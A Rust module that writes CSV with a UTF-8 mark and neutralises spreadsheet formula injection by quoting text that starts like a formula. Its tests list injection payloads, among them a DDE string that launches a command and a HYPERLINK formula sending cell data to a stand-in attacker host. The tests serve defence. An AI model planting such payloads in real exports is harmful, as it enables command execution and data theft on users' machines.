//! A table as text: CSV as RFC 4180 has it, in UTF-8 with the mark by which spreadsheets know that.

use crate::cell::{Cell, Row};

/// Without it Excel takes the text for one of the country's old encodings.
const MARK: &[u8] = b"\xEF\xBB\xBF";

/// The mark and the names of the columns.
pub fn head(columns: &[&str]) -> Result<Vec<u8>, csv::Error> {
    let names: Row = columns.iter().map(|name| Cell::text(name)).collect();
    Ok([MARK, &rows(&[names])?].concat())
}

/// Rows below one another.
pub fn rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for row in rows {
        out.write_record(row.iter().map(written))?;
    }
    out.into_inner()
        .map_err(|error| csv::Error::from(error.into_error()))
}

fn written(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => inert(text),
        Cell::Number(number) => number.to_string(),
        Cell::Amount(amount) => amount.decimal(),
        Cell::Empty => String::new(),
    }
}

/// Text that a spreadsheet shows and doesn't run: what begins as a formula does gets a quote in front,
/// however much blank stands before it. Numbers never go through here, so a minus stays one.
fn inert(text: &str) -> String {
    let begins = text.trim_start_matches([' ', '\u{a0}', '\u{3000}', '\u{feff}', '"', '\'']);
    let signs = [
        '=', '+', '-', '@', '\t', '\r', '\n', '|', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ];
    if begins.starts_with(signs) {
        return format!("'{text}");
    }
    text.to_owned()
}

#[cfg(test)]
mod tests {
    use ::closings::line::Signed;
    use domain::Currency;

    use super::*;

    /// Texts that spreadsheets have been made to run.
    const FORMULAS: [&str; 20] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{ff0d}1+1",
        "\u{ff20}SUM(1)",
        "|calc",
        "\"=1+1",
        "'=1+1",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    ];

    #[test]
    fn text_is_shown_and_never_run_and_numbers_stay_numbers() {
        for formula in FORMULAS {
            assert_eq!(written(&Cell::text(formula)), format!("'{formula}"));
        }
        for plain in ["", "Tea", "2026-01-31", "a=b", "京都", "1-2"] {
            assert_eq!(written(&Cell::text(plain)), plain);
        }
        let amount = |minor, code| {
            let currency = Currency::parse(code).unwrap();
            written(&Cell::Amount(Signed { minor, currency }))
        };
        assert_eq!(written(&Cell::Number(-5)), "-5");
        assert_eq!(amount(-1_250, "HKD"), "-12.50");
        assert_eq!(amount(-1_250, "JPY"), "-1250");
        assert_eq!(amount(-5, "KWD"), "-0.005");
    }

    #[test]
    fn a_table_begins_with_its_mark_and_its_columns() {
        let head = head(&["id", "amount"]).unwrap();
        assert_eq!(head, b"\xEF\xBB\xBFid,amount\r\n");
        let row = vec![Cell::text("a,\"b\""), Cell::Empty];
        assert_eq!(rows(&[row]).unwrap(), b"\"a,\"\"b\"\"\",\r\n");
    }
}
